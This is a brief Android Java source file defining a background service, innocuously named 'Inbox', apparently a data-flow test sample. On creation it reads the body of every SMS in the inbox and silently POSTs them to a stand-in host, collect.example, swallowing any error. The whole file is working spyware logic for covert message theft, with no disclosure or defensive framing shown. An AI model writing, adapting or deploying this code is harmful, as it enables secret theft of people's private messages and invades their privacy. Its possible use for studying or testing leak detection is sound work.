package org.example.flows.phone;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.StringEntity;
import org.apache.http.impl.client.DefaultHttpClient;

public class Inbox extends Service implements Runnable {
    @Override
    public void onCreate() {
        super.onCreate();
        new Thread(this).start();
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public void run() {
        StringBuffer all = new StringBuffer();
        Cursor rows = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
        if (rows.moveToFirst()) {
            do {
                all.append(rows.getString(rows.getColumnIndexOrThrow("body")).toString()).append("\n");
            } while (rows.moveToNext());
        }
        rows.close();
        upload(all.toString());
    }

    private void upload(String text) {
        try {
            HttpClient client = new DefaultHttpClient();
            HttpPost post = new HttpPost("http://collect.example/box");
            post.setEntity(new StringEntity(text));
            client.execute(post);
        } catch (Exception problem) {
            stopSelf();
        }
    }
}
